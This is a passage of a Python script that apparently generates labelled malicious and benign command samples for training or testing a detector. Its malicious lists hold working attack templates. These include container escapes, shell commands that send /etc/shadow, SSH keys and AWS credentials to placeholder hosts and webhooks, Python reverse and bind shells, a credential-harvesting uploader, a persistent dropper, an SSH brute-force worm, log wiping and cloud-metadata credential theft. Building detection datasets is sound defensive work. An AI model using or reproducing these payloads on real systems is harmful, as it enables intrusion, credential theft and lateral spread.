    "chroot /host {sh}",
    "kubectl --token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) --server=https://kubernetes.default.svc --insecure-skip-tls-verify get secrets -A",
    "curl -sk -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "kubectl run x --image=alpine --restart=Never --overrides='{{\"spec\":{{\"hostPID\":true,\"hostNetwork\":true,\"containers\":[{{\"name\":\"x\",\"image\":\"alpine\",\"command\":[\"nsenter\",\"-t\",\"1\",\"-a\",\"sh\"],\"securityContext\":{{\"privileged\":true}}}}]}}}}' -it",
    "kubectl exec -it -n kube-system $(kubectl get pods -n kube-system -o name | head -1) -- {sh}",
    "crictl exec -it $(crictl ps -q | head -1) {sh}",
    "capsh --print | grep -i sys_admin && mount -t proc none /mnt && ls /mnt/1/root",
    "debugfs -w /dev/sda1",
]

EXFIL = [
    "tar czf - /etc /root/.ssh 2>/dev/null | curl -s -X POST --data-binary @- http://{ip}:{port}/up",
    "curl -s -F 'f=@/etc/passwd' http://{ip}/upload",
    "curl -T {tmp}/d.tgz http://{ip}:{port}/",
    "curl --upload-file ~/.ssh/id_rsa https://transfer.sh/k",
    "wget --post-file=/etc/shadow http://{ip}:{port}/",
    "nc {ip} {port} < /etc/shadow",
    "cat ~/.aws/credentials | nc {ip} {port}",
    "scp -o StrictHostKeyChecking=no -r /var/www {user}@{ip}:/loot/",
    "rsync -az ~/.ssh {user}@{ip}:/loot/",
    "for l in $(cat /etc/passwd | base64 -w 30); do dig +short $l.x.exfil.invalid; done",
    "nslookup $(whoami).$(hostname).{hex}.oastify.com",
    "dig @{rawip} $(cat /etc/hostname | base64).t.invalid",
    "ping -c 1 -p $(xxd -p -l 16 /etc/shadow) {rawip}",
    "openssl s_client -quiet -connect {ip}:{port} < {tmp}/d.tgz",
    "curl -s -d \"h=$(hostname)&u=$(id)&k=$(cat ~/.ssh/id_rsa | base64 -w0)\" http://{ip}/c",
    "curl -s -X POST -H 'Content-Type: application/json' -d \"{{\\\"content\\\": \\\"$(cat /etc/passwd)\\\"}}\" https://discord.com/api/webhooks/{n}/{hex}",
    "curl -s \"https://api.telegram.org/bot{n}:{hex}/sendDocument\" -F chat_id={n} -F document=@{tmp}/d.zip",
    "zip -qr {tmp}/.d.zip /home && curl -s -F file=@{tmp}/.d.zip https://file.io",
    "python3 -m http.server {port} --directory / &",
    "busybox httpd -f -p {port} -h /",
    "php -S 0.0.0.0:{port} -t /",
    "curl -s http://{ip}/c?d=$(env | base64 -w0)",
    "ssh -N -D {port} {user}@{ip}",
    "nmap -sS -p- --min-rate 5000 {rawip}/24",
    "masscan -p1-65535 {rawip}/16 --rate 100000",
    "hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://{rawip}",
    "for h in $(awk '{{print $1}}' ~/.ssh/known_hosts | cut -d, -f1); do ssh -o BatchMode=yes -o ConnectTimeout=5 $h 'curl -s http://{ip}/i|sh' & done",
    "for ip in $(seq 1 254); do ping -c1 -W1 {rawip}.$ip | grep from; done",
]

# --- benign bash: admin one-liners, Dockerfile RUN lines, entrypoints ------------
BENIGN = [
    "find {dir} -name '*.log' -mtime +{n} -delete",
    "find {dir} -type f -name '*.sh' -exec chmod +x {{}} \\;",
    "find {dir} -name '*.py' -exec grep -l 'import requests' {{}} +",
    "find . -type f -exec /usr/local/bin/optimize.sh {{}} \\;",
    "find {dir} -name '*.jpg' -exec convert {{}} -resize 50% {{}} \\;",
    "find / -xdev -type f -size +{n}M 2>/dev/null | xargs ls -lh",
    "find . -name node_modules -type d -prune -exec rm -rf {{}} +",
    "rsync -avz --progress {dir}/ deploy@10.0.{n}.5:{dir}/",
    "rsync -az -e 'ssh -i ~/.ssh/deploy_key' ./dist/ www@web{n}.internal:/var/www/",
    "sudo rsync -aHAX --delete /home/ /mnt/backup/home/",
    "scp ./build/{svc}.tar.gz deploy@10.1.{n}.20:/opt/releases/",
    "ssh -L {port}:localhost:5432 bastion.internal -N",
    "ssh -fNL 8080:127.0.0.1:80 ops@jump.internal",
    "ssh -t admin@10.0.0.{n} 'sudo systemctl restart {svc}'",
    "ssh-keygen -t ed25519 -C 'deploy@ci' -f ~/.ssh/id_ed25519 -N ''",
    "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@10.0.0.{n}",
    "cat ~/.ssh/id_ed25519.pub",
    "ssh-keyscan github.com >> ~/.ssh/known_hosts",
    "chmod 600 ~/.ssh/id_ed25519 && chmod 700 ~/.ssh",
    "sudo mount -t nfs 10.0.0.{n}:/exports/data /mnt/data",
    "sudo mount /dev/sdb1 /mnt/usb && ls /mnt/usb",
    "sudo umount /mnt/backup",
    "cut -d: -f1 /etc/passwd | sort",
    "getent passwd {user}",
    "awk -F: '$3 >= 1000 {{print $1}}' /etc/passwd",
    "grep -c processor /proc/cpuinfo",
    "cat /etc/os-release",
    "uname -r && lsb_release -a",
    "id -u && whoami",
    "ps aux | grep [n]ginx",
    "pgrep -f gunicorn | xargs kill -HUP",
    "kill -9 $(lsof -t -i:{port})",
    "pkill -f 'celery worker'",
    "sudo systemctl stop {svc} && sudo systemctl disable {svc}",
    "sudo systemctl daemon-reload && sudo systemctl enable --now {svc}.service",
    "sudo service {svc} restart",
    "sudo iptables -A INPUT -p tcp --dport {port} -j ACCEPT",
    "sudo ufw allow {port}/tcp && sudo ufw enable",
    "sudo journalctl --vacuum-time=7d",
    "sudo journalctl -u {svc} -f",
    "sudo logrotate -f /etc/logrotate.d/{svc}",
    "truncate -s 0 {dir}/logs/app.log",
    "ln -sf /dev/stdout /var/log/nginx/access.log && ln -sf /dev/stderr /var/log/nginx/error.log",
    "tail -n {n} /var/log/syslog | grep -i error",
    "zgrep 'Failed password' /var/log/auth.log* | wc -l",
    "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc",
    "echo 'source /opt/ros/humble/setup.bash' >> ~/.bashrc",
    "echo 'alias ll=\"ls -alF\"' >> ~/.bashrc && source ~/.bashrc",
    "(crontab -l 2>/dev/null; echo '0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1') | crontab -",
    "echo '*/5 * * * * root /usr/lib/{svc}/healthcheck' > /etc/cron.d/{svc}-health",
    "crontab -l",
    "sudo chown -R www-data:www-data /var/www/html && sudo chmod -R 755 /var/www/html",
    "chmod +x ./configure && ./configure --prefix=/usr/local && make -j$(nproc) && sudo make install",
    "chmod 755 /usr/local/bin/docker-entrypoint.sh",
    "sudo usermod -aG docker $USER",
    "sudo chmod 666 /var/run/docker.sock",
    "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock portainer/agent",
    "docker ps --format '{{{{.Names}}}}' | xargs -n1 docker inspect",
    "docker exec -it {svc} /bin/bash",
    "docker run -it --rm ubuntu:22.04 /bin/bash",
    "kubectl exec -it deploy/{svc} -- /bin/sh",
    "kubectl get secrets -n {svc} -o name",
    "kubectl port-forward svc/{svc} {port}:80",
    "env | grep -i proxy",
    "export $(grep -v '^#' .env | xargs)",
    "printenv | sort",
    "cat ~/.aws/config",
    "aws sts get-caller-identity",
    "aws s3 cp s3://acme-builds/{svc}/{ver}.tar.gz /tmp/",
    "gcloud auth configure-docker europe-docker.pkg.dev",
    "openssl req -x509 -newkey rsa:4096 -nodes -keyout key.pem -out cert.pem -days 365 -subj '/CN={svc}.internal'",
    "openssl s_client -connect {svc}.example.com:443 -servername {svc}.example.com </dev/null",
    "echo $(date -Is) {svc} deployed >> /var/log/deploy.log",
    "base64 -d secret.b64 > secret.json",
    "echo \"$CERT_B64\" | base64 -d > /etc/ssl/private/{svc}.pem",
    "kubectl get secret {svc}-tls -o jsonpath='{{.data.tls\\.crt}}' | base64 -d | openssl x509 -noout -dates",
    "tar -czf /backup/{svc}-$(date +%F).tgz {dir} && find /backup -mtime +{n} -delete",
    "nc -zv db.internal 5432",
    "until nc -z {svc} {port}; do echo waiting; sleep 1; done",
    "timeout {n} bash -c 'until curl -sf http://localhost:{port}/healthz; do sleep 1; done'",
    "bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/{port}' && echo up",
    "curl -fsS http://localhost:{port}/health || exit 1",
    "wget -qO- http://127.0.0.1:{port}/metrics | grep ^process_",
    "python3 -m http.server 8000",
    "python3 -m venv .venv && . .venv/bin/activate && pip install -r requirements.txt",
    "sudo -u postgres psql -c 'CREATE DATABASE {svc};'",
    "mysql -u root -p -e 'SHOW DATABASES;'",
    "history | grep docker | tail -{n}",
    "sudo tcpdump -i eth0 port {port} -c 100",
    "nmap -sV localhost",
    "sudo setcap 'cap_net_bind_service=+ep' /usr/local/bin/{svc}",
    "sudo visudo -c",
    "sudo -u www-data php artisan migrate --force",
    "sudo su - postgres -c 'pg_dump {svc} > /tmp/{svc}.sql'",
    "git clone https://github.com/acme/{svc}.git && cd {svc} && make",
    "git pull --rebase && git push origin main",
    "screen -dmS {svc} ./run.sh",
    "nohup ./server --port {port} > server.log 2>&1 &",
    "sed -i 's/^#PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
    "sudo modprobe br_netfilter && sudo sysctl -w net.ipv4.ip_forward=1",
    "sudo insmod ./build/mydriver.ko && dmesg | tail",
    "gcc -shared -fPIC -o libhook.so hook.c",
    "LD_LIBRARY_PATH=./lib ./bin/{svc} --version",
    "xargs -a packages.txt sudo apt-get install -y",
    "vim -c 'set ff=unix' -c wq script.sh",
    "less +F /var/log/{svc}.log",
    "awk '{{sum += $NF}} END {{print sum}}' {dir}/access.log",
    "perl -pi -e 's/foo/bar/g' *.conf",
    "ruby -e 'puts RUBY_VERSION'",
    "node -e 'console.log(process.versions)'",
    "php -r 'echo phpversion();'",
    "tar -xzf {svc}-{ver}.tar.gz -C /opt && ln -s /opt/{svc}-{ver} /opt/{svc}",
    "iptables-save > /etc/iptables/rules.v4",
    "systemctl list-units --type=service --state=running",
    "ls -la /etc/cron.d /etc/cron.daily",
    "touch {dir}/.maintenance && sleep 60 && rm {dir}/.maintenance",
]

DOCKERFILE_RUN = [
    "apt-get update && apt-get install -y --no-install-recommends {pkg} && rm -rf /var/lib/apt/lists/*",
    "apk add --no-cache {pkg}",
    "apk add --no-cache --virtual .build-deps gcc musl-dev && pip install --no-cache-dir -r requirements.txt && apk del .build-deps",
    "curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs",
    "curl -fsSL https://get.docker.com | sh",
    "curl -sSL https://install.python-poetry.org | python3 -",
    "curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    "wget -qO- https://github.com/acme/{svc}/releases/download/v{ver}/{svc}-linux-amd64.tar.gz | tar xz -C /usr/local/bin",
    "curl -fsSLo /usr/local/bin/{svc} https://github.com/acme/{svc}/releases/download/v{ver}/{svc}-linux-amd64 && chmod +x /usr/local/bin/{svc}",
    "wget -O /tmp/{svc}.deb https://github.com/acme/{svc}/releases/download/v{ver}/{svc}_{ver}_amd64.deb && dpkg -i /tmp/{svc}.deb && rm /tmp/{svc}.deb",
    "curl -fsSL -o /tmp/{svc}.tar.gz https://downloads.example.com/{svc}-{ver}.tar.gz && echo \"{hex}  /tmp/{svc}.tar.gz\" | sha256sum -c - && tar -xzf /tmp/{svc}.tar.gz -C /opt && rm /tmp/{svc}.tar.gz",
    "cd /tmp && wget https://ftp.gnu.org/gnu/make/make-4.4.tar.gz && tar xf make-4.4.tar.gz && cd make-4.4 && ./configure && make && make install && rm -rf /tmp/make-4.4*",
    "curl -fsSL https://packages.example.com/gpg.key | gpg --dearmor -o /usr/share/keyrings/{svc}.gpg && echo 'deb [signed-by=/usr/share/keyrings/{svc}.gpg] https://packages.example.com/apt stable main' > /etc/apt/sources.list.d/{svc}.list",
    "gpg --batch --keyserver hkps://keys.openpgp.org --recv-keys {hex}",
    "groupadd -r {svc} && useradd -r -g {svc} -d /home/{svc} -s /sbin/nologin {svc}",
    "useradd -m -u 1000 -s /bin/bash {user} && echo '{user} ALL=(ALL) NOPASSWD: /usr/bin/apt-get' > /etc/sudoers.d/{user}",
    "echo '{user} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/{user} && chmod 0440 /etc/sudoers.d/{user}",
    "adduser --disabled-password --gecos '' {user} && adduser {user} sudo",
    "mkdir -p /var/run/sshd && echo 'root:root' | chpasswd && sed -i 's/#PermitRootLogin prohibit-password/PermitRootLogin yes/' /etc/ssh/sshd_config",
    "go build -ldflags '-s -w' -o /usr/bin/{svc} ./cmd/{svc}",
    "CGO_ENABLED=0 GOOS=linux go build -o /out/{svc} .",
    "pip install --no-cache-dir --upgrade pip setuptools wheel",
    "npm ci --omit=dev && npm cache clean --force",
    "chmod +x /docker-entrypoint.sh /usr/local/bin/*.sh",
    "chown -R {svc}:{svc} /var/lib/{svc} /var/log/{svc}",
    "mkdir -p /run/{svc} /tmp/{svc} && chmod 1777 /tmp/{svc}",
    "rm -rf /tmp/* /var/tmp/* /root/.cache",
    "sed -i 's/^listen = .*/listen = 9000/' /usr/local/etc/php-fpm.d/www.conf",
    "ln -sf /usr/share/zoneinfo/UTC /etc/localtime && echo UTC > /etc/timezone",
    "echo 'en_US.UTF-8 UTF-8' > /etc/locale.gen && locale-gen",
    "echo \"{svc} --help\" >> /root/.bash_history",
    "git clone --depth 1 --branch v{ver} https://github.com/acme/{svc}.git /src/{svc} && make -C /src/{svc} install",
    "pip download --no-deps -d /wheels {svc}=={ver}",
    "setcap cap_net_bind_service=+ep /usr/sbin/nginx",
    "printf '[program:{svc}]\\ncommand=/usr/local/bin/{svc}\\nautorestart=true\\n' > /etc/supervisor/conf.d/{svc}.conf",
    "update-alternatives --install /usr/bin/python python /usr/bin/python3 1",
    "wget -q https://dl.example.com/{svc}/{ver}/install.sh -O /tmp/install.sh && bash /tmp/install.sh --unattended && rm /tmp/install.sh",
    "dpkg --add-architecture i386 && apt-get update && apt-get install -y wine32",
    "echo '{svc} soft nofile 65536' >> /etc/security/limits.conf",
    "cp /etc/{svc}/{svc}.conf.example /etc/{svc}/{svc}.conf",
    "chmod u+s /usr/bin/ping",
    "useradd -ms /bin/bash builder && chown -R builder /home/builder",
]

ENTRYPOINTS = [
    "#!/bin/sh\nset -e\nif [ \"${{1#-}}\" != \"$1\" ]; then\n  set -- {svc} \"$@\"\nfi\nif [ \"$1\" = '{svc}' ] && [ \"$(id -u)\" = '0' ]; then\n  chown -R {svc} /var/lib/{svc}\n  exec gosu {svc} \"$0\" \"$@\"\nfi\nexec \"$@\"\n",
    "#!/bin/bash\nset -euo pipefail\n: \"${{DB_HOST:=db}}\"\nuntil nc -z \"$DB_HOST\" 5432; do\n  echo \"waiting for $DB_HOST\"; sleep 1\ndone\npython manage.py migrate --noinput\nexec gunicorn app.wsgi:application --bind 0.0.0.0:{port} --workers {n}\n",
    "#!/bin/sh\ncurl -fsS --max-time 2 http://127.0.0.1:{port}/healthz >/dev/null || exit 1\n",
    "#!/bin/sh\nset -e\nenvsubst < /etc/nginx/templates/default.conf.template > /etc/nginx/conf.d/default.conf\nexec nginx -g 'daemon off;'\n",
    "#!/bin/bash\nset -e\nif [ -n \"$SSH_PUBLIC_KEY\" ]; then\n  mkdir -p /home/{user}/.ssh\n  echo \"$SSH_PUBLIC_KEY\" > /home/{user}/.ssh/authorized_keys\n  chmod 600 /home/{user}/.ssh/authorized_keys\nfi\nexec /usr/sbin/sshd -D -e\n",
    "#!/bin/sh\n# rotate logs of the app container\nfind /var/log/{svc} -name '*.log' -size +100M -exec truncate -s 0 {{}} \\;\nfind /var/log/{svc} -name '*.gz' -mtime +{n} -delete\n",
    "#!/bin/bash\nset -e\nif [ ! -f /data/.initialized ]; then\n  /usr/local/bin/{svc} init --data /data\n  touch /data/.initialized\nfi\nexec /usr/local/bin/{svc} serve --data /data --listen :{port}\n",
    "#!/bin/sh\nset -eu\nVERSION=\"{ver}\"\nARCH=$(uname -m)\nURL=\"https://github.com/acme/{svc}/releases/download/v$VERSION/{svc}-$ARCH.tar.gz\"\ntmp=$(mktemp -d)\ntrap 'rm -rf \"$tmp\"' EXIT\ncurl -fsSL \"$URL\" -o \"$tmp/{svc}.tar.gz\"\ncurl -fsSL \"$URL.sha256\" -o \"$tmp/{svc}.sha256\"\n(cd \"$tmp\" && sha256sum -c {svc}.sha256)\ntar -xzf \"$tmp/{svc}.tar.gz\" -C \"$tmp\"\ninstall -m 0755 \"$tmp/{svc}\" /usr/local/bin/{svc}\necho \"installed {svc} $VERSION\"\n",
    "#!/bin/bash\n# nightly backup\nset -euo pipefail\nstamp=$(date +%F)\npg_dump -h db -U {svc} {svc} | gzip > /backup/{svc}-$stamp.sql.gz\naws s3 cp /backup/{svc}-$stamp.sql.gz s3://acme-backups/{svc}/\nfind /backup -name '*.sql.gz' -mtime +{n} -delete\n",
    "#!/bin/sh\nexec java $JAVA_OPTS -jar /app/{svc}.jar \"$@\"\n",
    "#!/bin/bash\nset -e\nfor f in /docker-entrypoint.d/*.sh; do\n  [ -x \"$f\" ] && \"$f\"\ndone\nexec \"$@\"\n",
    "#!/bin/sh\nset -e\necho \"$KUBECONFIG_B64\" | base64 -d > /root/.kube/config\nchmod 600 /root/.kube/config\nexec kubectl \"$@\"\n",
]

# --- Python ---------------------------------------------------------------------
PY_INLINE_MAL = [
    "import pty;pty.spawn('{sh}')",
    "import os;os.system('{sh}')",
    "import os;os.setuid(0);os.system('{sh} -p')",
    "import os;os.execl('{sh}','sh','-p')",
    "import socket,os,pty;s=socket.socket();s.connect(('{ip}',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('{sh}')",
    "import socket,subprocess;s=socket.socket();s.connect(('{ip}',{port}));subprocess.call(['{sh}','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
    "import socket as s,subprocess as p;k=s.socket();k.bind(('',{port}));k.listen(1);c,_=k.accept();p.Popen(['{sh}'],stdin=c,stdout=c,stderr=c)",
    "import urllib.request;exec(urllib.request.urlopen('http://{ip}/s.py').read())",
    "import base64;exec(base64.b64decode('{b64}'))",
    "import os,base64;os.system(base64.b64decode('{b64}').decode())",
    "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))",
    "__import__('os').system('curl -s http://{ip}/i|sh')",
    "import urllib.request,os;urllib.request.urlretrieve('http://{ip}/{bin}','/tmp/{bin}');os.chmod('/tmp/{bin}',0o755);os.system('/tmp/{bin}')",
    "import requests;requests.post('http://{ip}/c',data=open('/etc/shadow').read())",
    "import os,requests;requests.post('https://webhook.site/{hex}',json=dict(os.environ))",
    "import os;print(open(os.path.expanduser('~/.aws/credentials')).read())",
    "import glob;[print(open(f).read()) for f in glob.glob('/home/*/.ssh/id_*')]",
    "import ctypes;ctypes.CDLL('/tmp/.{bin}.so')",
    "import os;os.system('echo \"* * * * * root curl -s http://{ip}/c|sh\" >> /etc/crontab')",
    "open('/root/.ssh/authorized_keys','a').write('ssh-ed25519 AAAAC3Nza{hex} x\\n')",
    "import os;os.system('chmod u+s /bin/bash')",
    "import http.server,socketserver,os;os.chdir('/');socketserver.TCPServer(('',{port}),http.server.SimpleHTTPRequestHandler).serve_forever()",
    "import urllib.request;print(urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read())",
    "import os;[os.remove(p) for p in ('/var/log/auth.log','/var/log/syslog','/root/.bash_history')]",
]

PY_INLINE_BEN = [
    "import sys; print(sys.version)",
    "import json,sys; print(json.load(sys.stdin)['{svc}'])",
    "import secrets; print(secrets.token_urlsafe(32))",
    "import site; print(site.getsitepackages()[0])",
    "import socket; print(socket.gethostname())",
    "import os; print(os.cpu_count())",
    "import urllib.request; urllib.request.urlopen('http://localhost:{port}/health', timeout=2)",
    "import sys,base64; sys.stdout.write(base64.b64decode(sys.stdin.read()).decode())",
    "import subprocess; subprocess.run(['git','rev-parse','HEAD'], check=True)",
    "import socket; s=socket.create_connection(('db', 5432), 2); s.close()",
    "import django; print(django.get_version())",
    "from {svc} import __version__; print(__version__)",
    "import ssl; print(ssl.OPENSSL_VERSION)",
    "import os; os.makedirs('/var/lib/{svc}', exist_ok=True)",
    "import shutil; print(shutil.disk_usage('/').free // 2**30)",
    "import pty, sys; sys.exit(0 if pty else 1)",
    "import compileall, sys; sys.exit(not compileall.compile_dir('/app', quiet=1))",
    "import hashlib,sys; print(hashlib.sha256(open(sys.argv[1],'rb').read()).hexdigest())",
]

PY_FILE_MAL = [
    """import socket, subprocess, os, time

HOST, PORT = "{ip}", {port}

def connect():
    while True:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((HOST, PORT))
            return s
        except OSError:
            time.sleep({n})

def main():
    s = connect()
    while True:
        cmd = s.recv(4096).decode().strip()
        if cmd == "exit":
            break
        if cmd.startswith("cd "):
            os.chdir(cmd[3:])
            s.send(b"ok")
            continue
        out = subprocess.run(cmd, shell=True, capture_output=True)
        s.send(out.stdout + out.stderr)
    s.close()

main()
""",
    """import os, glob, json, urllib.request

def grab():
    loot = {{}}
    for pattern in ["~/.ssh/id_*", "~/.aws/credentials", "~/.kube/config", "~/.docker/config.json", "~/.git-credentials", "~/.bash_history"]:
        for path in glob.glob(os.path.expanduser(pattern)):
            try:
                loot[path] = open(path).read()
            except OSError:
                pass
    loot["env"] = dict(os.environ)
    return loot

req = urllib.request.Request("http://{ip}:{port}/collect", data=json.dumps(grab()).encode(), headers={{"Content-Type": "application/json"}})
urllib.request.urlopen(req)
""",
    """#!/usr/bin/env python3
import os, stat, urllib.request, subprocess

URL = "http://{ip}/{bin}"
DST = "/tmp/.{bin}"

urllib.request.urlretrieve(URL, DST)
os.chmod(DST, os.stat(DST).st_mode | stat.S_IEXEC)
subprocess.Popen([DST], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
cron = "@reboot " + DST + "\\n"
with open("/var/spool/cron/crontabs/root", "a") as f:
    f.write(cron)
""",
    """import base64, zlib
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"{b64}"))
""",
    """import os, pty, socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.bind(("0.0.0.0", {port}))
s.listen(1)
while True:
    conn, addr = s.accept()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        pty.spawn("{sh}")
        os._exit(0)
""",
    """import requests, platform, getpass, socket, subprocess

info = {{
    "host": socket.gethostname(),
    "user": getpass.getuser(),
    "os": platform.platform(),
    "id": subprocess.getoutput("id"),
}}
r = requests.post("http://{ip}:{port}/beacon", json=info, timeout=10)
for task in r.json().get("tasks", []):
    out = subprocess.getoutput(task)
    requests.post("http://{ip}:{port}/result", data=out)
""",
    """import os, subprocess
# runs at import time of the package
if not os.path.exists("/tmp/.{bin}.lock"):
    open("/tmp/.{bin}.lock", "w").close()
    subprocess.Popen("curl -fsSL http://{ip}/{bin}.sh | sh", shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    """import os, threading, time, socket
import paramiko

def spread(host):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    for pw in ("root", "admin", "123456", "toor"):
        try:
            c.connect(host, username="root", password=pw, timeout=3)
            c.exec_command("curl -s http://{ip}/i.sh | sh")
            return
        except Exception:
            continue

for line in open(os.path.expanduser("~/.ssh/known_hosts")):
    threading.Thread(target=spread, args=(line.split()[0].split(",")[0],)).start()
""",
    """import subprocess, os
for cmd in ("systemctl stop auditd", "setenforce 0", "iptables -F", "history -c"):
    subprocess.call(cmd, shell=True)
for log in ("/var/log/auth.log", "/var/log/secure", "/var/log/wtmp"):
    try:
        open(log, "w").close()
    except OSError:
        pass
os.system("rm -f ~/.bash_history")
""",
    """import urllib.request, json, os
TOKEN = urllib.request.urlopen(urllib.request.Request("http://169.254.169.254/latest/api/token", method="PUT", headers={{"X-aws-ec2-metadata-token-ttl-seconds": "60"}})).read().decode()
h = {{"X-aws-ec2-metadata-token": TOKEN}}
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = urllib.request.urlopen(urllib.request.Request(base, headers=h)).read().decode()
creds = urllib.request.urlopen(urllib.request.Request(base + role, headers=h)).read()
urllib.request.urlopen("http://{ip}/k", data=creds)
""",
]

PY_FILE_BEN = [
    """import socket
import sys


def wait_for(host: str, port: int, timeout: float = 30.0) -> None:
    import time
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with socket.create_connection((host, port), timeout=1):
                return
        except OSError:
            time.sleep(0.5)
    sys.exit(f"{{host}}:{{port}} not reachable after {{timeout}}s")


if __name__ == "__main__":
    wait_for(sys.argv[1], int(sys.argv[2]))
""",
    """#!/usr/bin/env python3
\"\"\"Run the test suite in a fresh virtualenv.\"\"\"
import os
import subprocess
import sys
import venv

ENV = os.path.join(os.path.dirname(__file__), ".venv")
if not os.path.isdir(ENV):
    venv.create(ENV, with_pip=True)
pip = os.path.join(ENV, "bin", "pip")
subprocess.check_call([pip, "install", "-q", "-r", "requirements-dev.txt"])
sys.exit(subprocess.call([os.path.join(ENV, "bin", "pytest"), "-q", *sys.argv[1:]]))
""",
    """import json
import os
import urllib.request

API = os.environ.get("{svc}_URL", "https://api.example.com")
TOKEN = os.environ["{svc}_TOKEN"]


def get(path: str) -> dict:
    req = urllib.request.Request(API + path, headers={{"Authorization": f"Bearer {{TOKEN}}"}})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return json.load(resp)


def main() -> None:
    for item in get("/v1/items")["items"]:
        print(item["id"], item["name"])


if __name__ == "__main__":
    main()
""",
    """#!/usr/bin/env python3
import hashlib
import os
import shutil
import subprocess
import tarfile
import tempfile
import urllib.request

VERSION = "{ver}"
URL = f"https://github.com/acme/{svc}/releases/download/v{{VERSION}}/{svc}-linux-amd64.tar.gz"
SHA256 = "{hex}{hex}{hex}{hex}"


def install(prefix="/usr/local/bin"):
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "{svc}.tgz")
        urllib.request.urlretrieve(URL, path)
        digest = hashlib.sha256(open(path, "rb").read()).hexdigest()
        if digest != SHA256:
            raise SystemExit(f"checksum mismatch: {{digest}}")
        with tarfile.open(path) as tar:
            tar.extractall(tmp)
        shutil.copy(os.path.join(tmp, "{svc}"), prefix)
        os.chmod(os.path.join(prefix, "{svc}"), 0o755)
    subprocess.run([os.path.join(prefix, "{svc}"), "--version"], check=True)


if __name__ == "__main__":
    install()
""",
    """import logging
import os
import shutil
import time

log = logging.getLogger("cleanup")
ROOT = "/var/log/{svc}"
MAX_AGE = {n} * 86400


def main():
    now = time.time()
    for name in os.listdir(ROOT):
        path = os.path.join(ROOT, name)
        if now - os.path.getmtime(path) > MAX_AGE:
            log.info("removing %s", path)
            if os.path.isdir(path):
                shutil.rmtree(path)
            else:
                os.remove(path)


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    main()
""",
    """import base64
import json
import os
import subprocess


def load_kubeconfig():
    blob = os.environ["KUBECONFIG_B64"]
    path = os.path.expanduser("~/.kube/config")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(base64.b64decode(blob).decode())
    os.chmod(path, 0o600)


def rollout(deployment):
    subprocess.run(["kubectl", "rollout", "restart", f"deployment/{{deployment}}"], check=True)
    out = subprocess.run(["kubectl", "get", "deploy", deployment, "-o", "json"], capture_output=True, check=True)
    print(json.loads(out.stdout)["status"])


if __name__ == "__main__":
    load_kubeconfig()
    rollout("{svc}")
""",
]


# How a one-liner reaches a shell in the wild: typed, wrapped in `sh -c`, chained
# after a `cd`, silenced, backgrounded.
WRAPPERS = [
    "{c}", "{c}", "{c}", "sh -c '{c}'", "bash -c \"{c}\"", "cd /tmp; {c}", "{c} 2>/dev/null", "{c} &", "nohup {c} >/dev/null 2>&1 &",
    "{c}; echo done", "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; {c}", "{c} || true",
]


def _expand(rnd, templates, lang, kind, label, technique, per, wrap=False):
    fill = Filler(rnd)
    out = []
    for t in templates:
        for _ in range(per):
            text = fill(t)
            if wrap and "\n" not in text:
                # Only quote with a quote character the command does not use.
                choices = [w for w in WRAPPERS if not ("'{c}'" in w and "'" in text) and not ('"{c}"' in w and '"' in text)]
                text = rnd.choice(choices).replace("{c}", text)
            out.append((lang, kind, label, technique, text))
    return out


def _chain(rnd, pools, lang, label, technique, count, shebang=True):
    """Multi-step scripts: a few techniques one after another, as droppers are written."""
    fill = Filler(rnd)
    out = []
    for _ in range(count):
        steps = [fill(rnd.choice(rnd.choice(pools))) for _ in range(rnd.randint(3, 7))]
        head = rnd.choice(["#!/bin/sh\n", "#!/bin/bash\n", "#!/usr/bin/env bash\nset -e\n"]) if shebang else ""
        out.append((lang, "file", label, technique, head + "\n".join(steps) + "\n"))
    return out


def generate():
    rnd = random.Random(20261123)
    mal_pools = [SHELL_ESCAPES, REVERSE_SHELLS, DOWNLOAD_RUN, DECODE_EXEC, PERSISTENCE, ACCOUNTS, CREDENTIALS, EVASION, MINERS, CONTAINER_ESCAPE, EXFIL]
    out = []
    out += _expand(rnd, SHELL_ESCAPES, "bash", "inline", M, "T1548", 4, wrap=True)
    out += _expand(rnd, REVERSE_SHELLS, "bash", "inline", M, "T1059.004", 4, wrap=True)
    out += _expand(rnd, DOWNLOAD_RUN, "bash", "inline", M, "T1105", 4, wrap=True)
    out += _expand(rnd, DECODE_EXEC, "bash", "inline", M, "T1140", 4, wrap=True)
